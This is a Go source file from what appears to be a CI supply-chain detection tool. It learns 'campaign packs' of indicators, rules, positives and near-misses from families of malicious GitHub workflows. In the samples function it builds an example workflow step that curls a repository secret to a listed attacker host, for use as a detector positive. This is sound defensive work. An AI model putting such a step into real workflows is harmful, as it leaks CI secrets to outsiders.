package family

import (
	"errors"
	"fmt"
	"slices"
	"strings"

	"pentimento/internal/campaign"
	"pentimento/internal/evidence"
	"pentimento/internal/workflow"
)

// Text is a version of a family with its text.
type Text struct {
	Blob  evidence.OID
	Paths []string
	Found bool
	Body  []byte
}

// ErrNothingToLearn is returned for a family from which no rule can be made: nothing in it is the maker's own.
var ErrNothingToLearn = errors.New("nothing in the family is of its own: no rule can be made of it")

// maxSamples bounds the positives of a learned pack: one for each shape, and a reader wants a few.
const maxSamples = 3

// Learn makes a campaign pack of a family: its indicators, each with the evidence that it comes from, the times of its commits as waves, rules that
// rest on what is its own, and its files as positives, with the hosts and the names of secrets taken out. The pack is checked before it is
// given. A person should read it before a case takes it in.
func Learn(name string, f Stored, texts []Text, packs []campaign.Pack) ([]byte, error) {
	l := learner{pack: campaign.Pack{Schema: campaign.Schema, Name: name, Title: "Learned from family " + f.ID}, from: map[Trait][]string{}, packs: packs}
	l.waves(f)
	l.proposals(f.Proposals)
	for _, t := range texts {
		l.text(t)
	}
	l.indicators(fit)
	l.samples(texts)
	l.rules()
	if len(l.pack.Rules) == 0 {
		return nil, ErrNothingToLearn
	}
	text := l.write(f)
	if _, err := campaign.Parse(name+".yaml", text); err != nil {
		return nil, fmt.Errorf("the pack that was learned does not hold: %w", err)
	}
	return text, nil
}

// learner puts a pack together.
type learner struct {
	pack     campaign.Pack
	packs    []campaign.Pack
	from     map[Trait][]string // where each trait was seen: evidence ids
	own      []Trait            // in the order of kind and value
	everyday map[Trait]bool
	role     map[string]string // of messages
	stamps   []Proposal
	aside    []Proposal // left out: they may be the victim's own
}

func (l *learner) waves(f Stored) {
	for i, s := range f.Habits.Spells {
		l.pack.Waves = append(l.pack.Waves, campaign.Wave{ID: fmt.Sprintf("spell-%d", i+1), From: s.From.UTC(), To: s.To.UTC(), Precision: campaign.Second,
			Source: "commit dates in the case, which their maker chose"})
	}
}

// proposals takes what the families proposed. What is everyday is kept where a pack can say so; so is what may be the victim's own.
func (l *learner) proposals(list []Proposal) {
	l.everyday, l.role = map[Trait]bool{}, map[string]string{}
	for _, p := range list {
		if p.Kind == Stamp { // a pack has no list for them: they stand in its head
			l.stamps = append(l.stamps, p)
			continue
		}
		if p.Everyday && !named(p.Kind) {
			l.everyday[p.Trait] = true
			continue
		}
		if p.Confidence == "low" && !named(p.Kind) {
			l.aside = append(l.aside, p)
			continue
		}
		if p.Kind == Author { // packs hold patterns of them
			p.Value = quoteGlob(p.Value)
		}
		l.from[p.Trait] = p.Evidence
		l.everyday[p.Trait] = p.Everyday || named(p.Kind) && p.Confidence == "low"
		if p.Kind == Message {
			l.role[p.Value] = p.Role
		}
	}
}

// named are the kinds of which a pack tells the everyday ones apart.
func named(k Kind) bool { return k == Path || k == WorkflowName || k == JobID }

// text takes what the packs know of a version already: a learned pack stands by itself.
func (l *learner) text(t Text) {
	s := Read(t.Body, t.Paths, workflow.Parse(t.Body), nil, false)
	for _, x := range s.leaky {
		if !known(x, l.packs) || x.Kind == Host && campaign.Service(x.Value) {
			continue
		}
		if id := "blob-" + string(t.Blob); !slices.Contains(l.from[x], id) && len(l.from[x]) < maxCited {
			l.from[x] = append(l.from[x], id)
		}
		l.everyday[x] = named(x.Kind) && (everyday(x) || slices.ContainsFunc(l.packs, func(p campaign.Pack) bool { return slices.Contains(p.Indicators.Everyday, x.Value) }))
	}
}

// fit reports a value that a pack can hold: what an attacker wrote may be anything. A pack of that one indicator is asked.
func fit(t Trait) bool {
	if t.Value == "" || t.Value != strings.TrimSpace(t.Value) || strings.ContainsFunc(t.Value, unseen) {
		return false
	}
	trial := learner{pack: campaign.Pack{Schema: campaign.Schema, Name: "trial", Title: "Trial"}, from: map[Trait][]string{{Host, "trial.example.invalid"}: nil},
		role: map[string]string{t.Value: "plant"}}
	trial.from[t] = nil
	trial.indicators(func(Trait) bool { return true })
	trial.samples(nil)
	trial.rules()
	_, err := campaign.Parse("trial", trial.write(Stored{}))
	return err == nil
}

// indicators sorts the traits that fit into the pack.
func (l *learner) indicators(fit func(Trait) bool) {
	for t := range l.from {
		if fit(t) {
			l.own = append(l.own, t)
		}
	}
	l.own = sortedTraits(l.own)
	in := &l.pack.Indicators
	lists := map[Kind]*[]string{Host: &in.Hosts, URLPart: &in.URLParts, Path: &in.Paths, WorkflowName: &in.WorkflowNames, JobID: &in.JobIDs,
		Artifact: &in.Artifacts, RunnerLabel: &in.RunnerLabels, Author: &in.Authors, Branch: &in.Branches}
	for _, t := range l.own {
		if t.Kind == Message {
			in.Messages = append(in.Messages, campaign.Message{Text: t.Value, Role: l.role[t.Value]})
			continue
		}
		*lists[t.Kind] = append(*lists[t.Kind], t.Value)
		if l.everyday[t] && !slices.Contains(in.Everyday, t.Value) {
			in.Everyday = append(in.Everyday, t.Value)
		}
	}
}

// samples makes positives of the family's files, findings first, one for each shape. One that could not be cleaned of its hosts is left out.
func (l *learner) samples(texts []Text) {
	list := slices.Clone(texts)
	slices.SortStableFunc(list, func(a, b Text) int {
		if a.Found != b.Found {
			if a.Found {
				return -1
			}
			return 1
		}
		return len(a.Body) - len(b.Body)
	})
	shapes := map[uint64]bool{}
	for _, t := range list {
		shape := digestOf(Skeleton(t.Body))
		at := slices.IndexFunc(t.Paths, func(p string) bool { return fit(Trait{Path, p}) })
		if shapes[shape] || at < 0 || len(l.pack.Positives) == maxSamples {
			continue
		}
		text, ok := abstract(t.Body, func(host string) bool { return slices.Contains(l.pack.Indicators.Hosts, host) })
		if !ok {
			continue
		}
		shapes[shape] = true
		l.pack.Positives = append(l.pack.Positives, campaign.Sample{Name: "the family's file, shape " + fmt.Sprint(len(shapes)), Path: t.Paths[at], Text: text})
	}
	if len(l.pack.Positives) == 0 && len(l.pack.Indicators.Hosts) > 0 {
		l.pack.Positives = append(l.pack.Positives, campaign.Sample{Name: "a file that sends a secret to a listed host", Path: ".github/workflows/made.yml",
			Text: "on: push\njobs:\n  made:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d 'SECRET_1=${{ secrets.SECRET_1 }}' https://" + campaign.ListedHost + "\n"})
	}
	l.pack.NearMisses = nearMisses()
}

// nearMisses are harmless files that a learned pack must not hit.
func nearMisses() []campaign.Sample {
	const head = "name: Project\non: [push, pull_request]\njobs:\n  project-tests:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
	return []campaign.Sample{
		{Name: "an upload of coverage with one token", Path: ".github/workflows/project-coverage.yml",
			Text: head + "      - run: curl -s -F \"token=${{ secrets.COVERAGE_TOKEN }}\" -F \"file=@coverage.xml\" https://coverage.example.invalid/upload/v2\n"},
		{Name: "a release with the registry's token", Path: ".github/workflows/project-release.yml",
			Text: head + "      - run: npm publish\n        env:\n          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}\n"},
	}
}

// rules are those of a list that hit a positive of the pack and none of its near-misses.
func (l *learner) rules() {
	leaves := []campaign.Condition{{SecretToNetwork: &campaign.Flow{}}, {BodyToNetwork: &campaign.Flow{}}, {HistoryToNetwork: &campaign.Flow{}},
		{SecretExits: &campaign.Exits{}}, {Loot: &campaign.Spoils{Leaves: "any"}}}
	trial := l.pack
	trial.Indicators.Hosts = append(slices.Clone(trial.Indicators.Hosts), campaign.ListedHost)
	for _, r := range []campaign.Rule{
		{ID: "listed-host", Description: "A command or an action talks to a host of the family, in a file that reads secrets or past commits or sends it a body.",
			Severity: "critical", Confidence: "high", All: []campaign.Condition{{Indicator: "host"}},
			Any: []campaign.Condition{{ReadsSecrets: true}, {BodyToNetwork: &campaign.Flow{To: "listed"}}, {HistoryToNetwork: &campaign.Flow{To: "listed"}}}},
		{ID: "listed-url", Description: "Secrets, loot or a body leave in a file that holds a part of the family's URLs.", Severity: "high", Confidence: "medium",
			All: []campaign.Condition{{Indicator: "url_part"}}, Any: leaves},
		{ID: "own-path", Description: "Secrets, loot or a body leave in a file at a path that only the family has.", Severity: "critical", Confidence: "medium",
			All: []campaign.Condition{{Indicator: "own_path"}}, Any: leaves},
		{ID: "own-name", Description: "Secrets, loot or a body leave in a file with a name or a job that only the family has.", Severity: "high", Confidence: "medium",
			All: []campaign.Condition{{Indicator: "own_workflow_name"}}, Any: leaves},
		{ID: "own-job", Description: "Secrets, loot or a body leave in a file with a job that only the family has.", Severity: "high", Confidence: "medium",
			All: []campaign.Condition{{Indicator: "own_job_id"}}, Any: leaves},
		{ID: "named-alike", Description: "Several secrets leave in a file with the family's path, name and job together, each of which anybody may have.",
			Severity: "high", Confidence: "medium", All: []campaign.Condition{{Indicators: []string{"path", "workflow_name", "job_id"}}},
			Any: []campaign.Condition{{SecretToNetwork: &campaign.Flow{Secrets: 2}}, {HistoryToNetwork: &campaign.Flow{}}, {SecretExits: &campaign.Exits{All: true}}}},
	} {
		trial.Rules = []campaign.Rule{r}
		hits := func(s campaign.Sample) bool {
			return len(trial.Match([]string{s.Path}, workflow.Parse([]byte(s.Text)), []byte(s.Text))) > 0
		}
		if slices.ContainsFunc(trial.NearMisses, hits) {
			continue
		}
		used := false
		for i, s := range l.pack.Positives {
			if hits(s) {
				l.pack.Positives[i].Rules, used = append(l.pack.Positives[i].Rules, r.ID), true
			}
		}
		if used {
			l.pack.Rules = append(l.pack.Rules, r)
		}
	}
	l.pack.Positives = slices.DeleteFunc(l.pack.Positives, func(s campaign.Sample) bool { return len(s.Rules) == 0 })
}
